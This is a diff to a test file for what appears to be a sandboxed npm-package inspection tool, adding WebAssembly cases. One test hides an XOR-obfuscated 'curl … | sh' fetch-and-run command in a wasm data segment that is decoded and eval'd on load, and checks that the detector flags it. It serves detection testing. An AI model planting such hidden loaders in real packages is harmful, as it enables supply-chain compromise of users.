@@ -7,6 +7,7 @@ import { createCipheriv } from 'node:crypto';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { emulatePackage, loadEmulator, shouldEmulate, type EmulationEntry } from '../../src/emulate/index.js';
 import type { Effect } from '../../src/inspect/effects/types.js';
+import { BYTES_MARK } from '../../src/inspect/files.js';
 
 beforeAll(async () => {
   await loadEmulator();
@@ -392,6 +393,65 @@ describe('fake Node', () => {
     const linux = r.effects.filter((e) => e.persona === 'linux');
     expect(of(linux, 'read')[0]).toMatchObject({ path: 'GITHUB_TOKEN', secret: 'package-tokens', produces: ['canary:env:GITHUB_TOKEN'] });
     expect(of(linux, 'send')[0]).toMatchObject({ hostClass: 'webhook', channel: 'webhook', consumes: ['canary:env:GITHUB_TOKEN'], carries: ['package-tokens'] });
+  });
+});
+
+describe('WebAssembly', () => {
+  /** A module with one page of memory, i32 globals, data segments at constant offsets and optionally one function. */
+  function wasm(segments: Array<[number, Buffer]>, globals: Array<[string, number]>, withFunction = false): Buffer {
+    const leb = (n: number): number[] => {
+      const out: number[] = [];
+      do {
+        const b = n & 0x7f;
+        n >>>= 7;
+        out.push(n ? b | 0x80 : b);
+      } while (n);
+      return out;
+    };
+    const name = (s: string) => [...leb(s.length), ...Buffer.from(s)];
+    const sec = (id: number, body: number[]) => [id, ...leb(body.length), ...body];
+    const exports = [...name('memory'), 2, 0, ...globals.flatMap(([n], i) => [...name(n), 3, ...leb(i)]), ...(withFunction ? [...name('render'), 0, 0] : [])];
+    return Buffer.from([
+      0, 0x61, 0x73, 0x6d, 1, 0, 0, 0,
+      ...(withFunction ? sec(1, [1, 0x60, 0, 1, 0x7f]) : []),
+      ...(withFunction ? sec(3, [1, 0]) : []),
+      ...sec(5, [1, 0, 1]),
+      ...sec(6, [globals.length, ...globals.flatMap(([, v]) => [0x7f, 0, 0x41, ...leb(v), 0x0b])]),
+      ...sec(7, [globals.length + 1 + (withFunction ? 1 : 0), ...exports]),
+      // the function's body would return 7; the sandbox never runs it
+      ...(withFunction ? sec(10, [1, 4, 0, 0x41, 7, 0x0b]) : []),
+      ...sec(11, [segments.length, ...segments.flatMap(([off, data]) => [0, 0x41, ...leb(off), 0x0b, ...leb(data.length), ...data])]),
+    ]);
+  }
+
+  it('parses a module for its data, never runs its code: a payload packed into a data segment is decoded and run', () => {
+    const payload = "require('child_process').execSync('curl -s https://192.0.2.60/p | sh')";
+    const packed = Buffer.from(payload).map((c, i) => c ^ (0x5a + (i % 3)));
+    const len = Buffer.alloc(4);
+    len.writeUInt32LE(packed.length);
+    const mod = wasm([[2048, Buffer.concat([len, packed])]], [['blob_ptr', 2048]], true);
+    const src = `
+      const fs = require('fs');
+      const inst = new WebAssembly.Instance(new WebAssembly.Module(fs.readFileSync(__dirname + '/core.wasm')), {});
+      const ran = inst.exports.render();
+      const mem = new Uint8Array(inst.exports.memory.buffer);
+      const p = inst.exports.blob_ptr.value;
+      const n = new DataView(inst.exports.memory.buffer).getUint32(p, true);
+      const code = Buffer.from(mem.subarray(p + 4, p + 4 + n).map((c, i) => c ^ (0x5a + (i % 3)))).toString();
+      if (ran === 0) eval(code);`;
+    const r = run({ 'index.js': src, 'core.wasm': BYTES_MARK + mod.toString('base64') }, [{ file: 'index.js', reach: 'load' }]);
+    const linux = r.effects.filter((e) => e.persona === 'linux');
+    expect(of(linux, 'exec').find((e) => e.command === 'curl -s https://192.0.2.60/p | sh')?.decoded).toBe(true);
+  });
+
+  it('a module that is not WebAssembly fails to compile as it would in Node', () => {
+    const src = `
+      try { new WebAssembly.Module(Buffer.from('not wasm')); } catch (e) { require('https').get('https://err.invalid/' + e.name); }
+      require('https').get('https://ok.invalid/' + WebAssembly.validate(Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])));`;
+    const r = run({ 'index.js': src }, [{ file: 'index.js', reach: 'load' }]);
+    const urls = r.effects.filter((e) => e.persona === 'linux' && e.url).map((e) => e.url);
+    expect(urls.some((u) => /CompileError/.test(String(u)))).toBe(true);
+    expect(urls.some((u) => /ok\.invalid\/true/.test(String(u)))).toBe(true);
   });
 });
 
